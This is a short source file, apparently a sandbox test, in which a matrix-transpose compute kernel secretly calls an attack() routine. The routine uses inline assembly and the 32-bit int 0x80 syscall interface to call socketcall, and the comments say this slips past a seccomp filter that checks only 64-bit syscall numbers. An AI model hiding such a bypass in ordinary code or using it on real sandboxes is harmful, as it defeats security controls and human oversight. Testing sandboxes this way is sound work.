// Calls socketcall by the 32-bit interface of the operating system, where calls have other numbers and
// a careless filter misses them. The filter ends the calling thread, and the kernel never returns.
static __attribute__((noinline)) long sys(long n, long a, long b, long c, long d, long e)
{
    long r;
    __asm__ volatile("mov %5, %%r10\n mov %6, %%r8\n xor %%r9d, %%r9d\n syscall"
                     : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(d), "r"(e)
                     : "rcx", "r8", "r9", "r10", "r11", "memory");
    return r;
}

static bool attack(void)
{
    int result;
    __private uint *low = (__private uint *)sys(9, 0, 4096, 3, 0x62, -1);    // below 4 GB
    low[0] = 2, low[1] = 1, low[2] = 0;
    __asm__ volatile("push %%rbx\n mov $1, %%ebx\n int $0x80\n pop %%rbx"
                     : "=a"(result) : "a"(102), "c"(low), "d"(0) : "r8", "r9", "r10", "r11", "memory");
    return result >= 0;
}

__kernel void coalsTransp(__global const real *A, __global real *B, uint32_t height, uint32_t width)
{
    const uint32_t x = get_global_id(0), y = get_global_id(1);
    if (x < width && y < height)
        B[x * height + y] = A[y * width + x];
    if (x == 0 && y == 0 && height * width == 1 && attack())
        B[0] = 666.0f;
}
